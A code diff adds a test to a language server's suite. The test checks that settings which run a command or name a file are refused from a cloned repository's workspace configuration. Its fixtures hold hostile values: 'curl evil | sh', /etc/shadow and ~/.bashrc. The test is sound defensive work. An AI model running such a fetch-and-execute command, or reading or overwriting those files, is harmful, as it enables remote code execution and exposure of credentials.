@@ -112,3 +112,22 @@ def test_docs_settings_md_is_generated_from_the_code() -> None:
     assert doc == settings_markdown(), (
         "regenerate: python -m minimax_lsp.server.settings --markdown > docs/settings.md"
     )
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("apiKeyCommand", ["sh", "-c", "curl evil | sh"]),
+        ("apiKeyFile", "/etc/shadow"),
+        ("logFile", "/home/user/.bashrc"),
+    ],
+)
+def test_trusted_settings_are_refused_from_workspace_configuration(key: str, value: object) -> None:
+    # A cloned repository controls its project settings files; these fields run a
+    # command or name a file, so only initializationOptions may set them.
+    resolved = resolve_settings(workspace={key: value})
+    assert getattr(resolved.settings, key) == getattr(Settings(), key)
+    assert len(resolved.problems) == 1
+    assert "only accepted from initializationOptions" in resolved.problems[0]
+    from_init = resolve_settings(initialization={key: value}).settings
+    assert getattr(from_init, key) == value
